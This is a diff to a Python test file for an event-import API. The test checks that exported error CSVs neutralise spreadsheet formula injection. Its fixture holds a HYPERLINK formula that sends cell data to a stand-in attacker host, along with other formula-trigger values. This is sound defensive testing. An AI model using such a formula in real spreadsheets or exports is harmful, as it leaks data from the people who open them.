@@ -158,3 +158,29 @@ def test_a_file_imported_from_the_command_line_is_left_where_it_was(
     )
     assert job.status.value == "done"
     assert path.exists()
+
+
+def test_errors_csv_neutralises_formulas_in_every_column_when_custom_fields_carry_them(
+    client: TestClient, turnout: Turnout, event: dict[str, Any]
+) -> None:
+    link = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    buffer = io.StringIO()
+    csv.writer(buffer).writerows(
+        [
+            ["이름", "이메일", "=회사", "메모"],
+            ["김민준", "not-an-email", link, "+1"],
+            ["박서준", "c@example.com", "-2+3", "@SUM(A1)"],
+            ["이서연", "bad", "\tx", "\rcmd"],
+        ]
+    )
+    job = upload(client, str(event["id"]), buffer.getvalue().encode()).json()
+    turnout.importer.run_pending()
+    response = client.get(f"/api/v1/imports/{job['id']}/errors.csv")
+    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"), newline="")))
+    assert rows[0][:4] == ["이름", "이메일", "'=회사", "메모"]
+    cells = [cell for row in rows for cell in row]
+    assert f"'{link}" in cells
+    assert "'+1" in cells
+    assert "'\tx" in cells
+    assert "'\rcmd" in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
